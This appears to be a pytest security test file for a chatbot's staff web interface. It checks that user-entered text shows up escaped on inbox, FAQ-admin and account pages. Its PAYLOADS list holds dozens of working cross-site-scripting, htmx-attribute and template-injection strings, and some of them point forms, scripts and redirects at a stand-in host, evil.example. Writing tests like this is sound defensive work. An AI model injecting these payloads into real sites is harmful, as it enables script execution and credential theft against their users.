"""Whatever people write stays text: no payload makes an element or an attribute."""

from html.parser import HTMLParser

import pytest

from bot.store import knowledge, wordings
from bot.store.knowledge import Faq
from bot.store.models import Author, OutgoingState
from bot.store.wordings import Words
from tests.bot.visiting import NOW, change, converse, name, owes, says, visitor

pytestmark = pytest.mark.parametrize("url", ["sqlite"], indirect=True)

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example></script>",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>click</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=https://evil.example>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" hx-get="/admin/faq/" hx-trigger="load" x="',
    '<div hx-get="/x" hx-trigger="load"></div>',
    '<div hx-on:click="alert(1)"></div>',
    '<p hx-swap-oob="true" id="announcer">x</p>',
    '<div data-hx-post="/sign-out" data-hx-trigger="load">',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "{{7*7}}",
    "{{ config }}",
    "{% import 'os' %}",
    "{0.__class__}",
    "%(x)s ${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onmouseover=alert(1) x=&quot;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
    "e" + "\u0301" * 500,
    "\x1b[31mred\x1b[0m\r\nSet-Cookie: x=1",
    "x" * 5000,
]


class Skeleton(HTMLParser):
    """The elements of a page with the names of their attributes, in order."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.text = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, tuple(name for name, _ in attrs)))

    def handle_data(self, data):
        self.text.append(data)

    def handle_comment(self, data):
        self.elements.append(("comment", ()))


def skeleton(page):
    parser = Skeleton()
    parser.feed(page)
    return parser


def fill(parts, who, text):
    """Put *text* wherever people can put any."""
    conversation = converse(parts, "1001", text)
    name(parts, conversation, text)
    attached = {"type": text, "url": f"https://x.example/{text}", "title": text}
    says(parts, conversation, text, parts={"attachments": [attached]})
    says(parts, conversation, text, author=Author.ELSEWHERE, reaction=text[:60])
    element = {"title": text, "subtitle": text, "buttons": [{"title": text}]}
    buttons = [{"title": text, "url": text, "payload": text}]
    payload = {"template_type": "generic", "elements": [element], "buttons": buttons}
    message = {
        "attachment": {"type": "template", "payload": payload},
        "quick_replies": [{"title": text, "payload": text}],
    }
    owes(parts, conversation, text, message=message, reason=text)
    uncertain = OutgoingState.UNCONFIRMED
    owes(parts, conversation, text, reason=text, state=uncertain)
    change(
        parts,
        conversation,
        status="waiting",
        waiting_since=NOW,
        handoff_reason=text[:60],
        handoff_summary=f"{text}\nWants: {text}",
        language=text[:10],
    )
    entry = Faq(
        name="odd",
        question=text,
        phrasings=(text, "b"),
        answers={"en": text},
        live=True,
    )

    def teach(connection):
        for _ in range(2):
            knowledge.save(connection, entry, now=NOW, staff_id=who.staff_id, note=text)
        words = Words(text=text)
        wordings.save(
            connection, "utter_greet", "en", words, now=NOW, staff_id=who.staff_id
        )

    parts.database.write(teach)
    return conversation


PAGES = [
    "/inbox/?view=waiting",
    "/inbox/{conversation}",
    "/inbox/news?conversation={conversation}",
    "/admin/faq/",
    "/admin/faq/?q={query}",
    "/admin/faq/odd",
    "/admin/faq/odd/versions",
    "/admin/wording/",
    "/admin/wording/utter_greet",
    "/account/",
]


def read(who, text, conversation):
    for path in PAGES:
        path = path.replace("{conversation}", str(conversation))
        path, asks, _ = path.partition("?q=")
        query = {"query_string": {"q": text[:100]}} if asks else {}
        answer = who.get(path, **query)
        assert answer.status_code == 200, path
        yield path, skeleton(answer.text)


@pytest.fixture
def plain(app, parts):
    """What the pages are made of when all that people wrote is a word."""
    who = visitor(app, "admin", "plain")
    conversation = fill(parts, who, "plain")
    return {path: page.elements for path, page in read(who, "plain", conversation)}


ALLOWED = {"ins", "del", "code", "b", "bdi", "span", "li"}  # differences, places


def kinds(elements):
    return {(tag, attrs) for tag, attrs in elements}


def test_no_payload_makes_an_element_or_an_attribute(app, parts, plain):
    who = visitor(app, "admin", "reader")
    before = {path: kinds(elements) for path, elements in plain.items()}
    for text in PAYLOADS:
        conversation = fill(parts, who, text)
        for path, page in read(who, text, conversation):
            new = kinds(page.elements) - before[path]
            odd = {
                (tag, attrs)
                for tag, attrs in new
                if tag not in ALLOWED and (tag, attrs) not in known_variants(before)
            }
            assert odd == set(), (text, path)


def known_variants(before):
    """Elements that some page has without any payload: a link more, an open fold."""
    return set().union(*before.values()) | {
        ("a", ("class", "href", "target", "rel", "referrerpolicy")),
        ("details", ("open",)),
    }


def test_a_payload_is_read_as_it_was_written(app, parts):
    who = visitor(app, "admin")
    for text in ("<b>&amp;</b>", "{{7*7}}", '"quoted" <tag>', "100 % {name}"):
        conversation = fill(parts, who, text)
        page = skeleton(who.page(f"/inbox/{conversation}"))
        assert text in "".join(page.text)


def test_a_name_of_staff_is_text_too(app, parts):
    odd = '"><img src=x onerror=alert(1)>'
    who = visitor(app, "admin", odd)
    conversation = converse(parts, "1", "hello")
    who.post(f"/inbox/{conversation}/take-over")
    ben = visitor(app, "agent", "Ben")
    for reader in (who, ben):
        page = skeleton(reader.page(f"/inbox/{conversation}"))
        assert "img" not in {tag for tag, attrs in page.elements if "onerror" in attrs}


def test_what_is_searched_for_is_text_too(app):
    who = visitor(app, "editor")
    for text in PAYLOADS[:60]:
        page = who.get("/admin/faq/", query_string={"q": text}).text
        assert "alert(1)</script>" not in page
        assert "onerror=alert" not in page.replace("onerror=alert(1)&gt;", "")


@pytest.mark.timeout(400)  # hundreds of whole editors are made
def test_what_failed_to_be_saved_comes_back_as_text(app):
    who = visitor(app, "editor")
    for text in PAYLOADS:
        answer = who.post(
            "/admin/faq/new", question=text, phrasings="", answer=text, state="live"
        )
        assert answer.status_code == 422
        tags = [tag for tag, attrs in skeleton(answer.text).elements]
        assert tags.count("script") == 3
        assert "iframe" not in tags
        login = who.client.post(
            "/sign-in",
            data={"csrf_token": who.csrf_token, "login": text, "password": text},
        )
        assert skeleton(login.text).elements.count(("script", ("src", "type"))) <= 1


def test_a_preview_is_text(app):
    who = visitor(app, "editor")
    for text in PAYLOADS:
        page = skeleton(who.post("/admin/preview", answer=text).text)
        assert {tag for tag, _ in page.elements} <= {
            "div",
            "label",
            "option",
            "p",
            "select",
        }
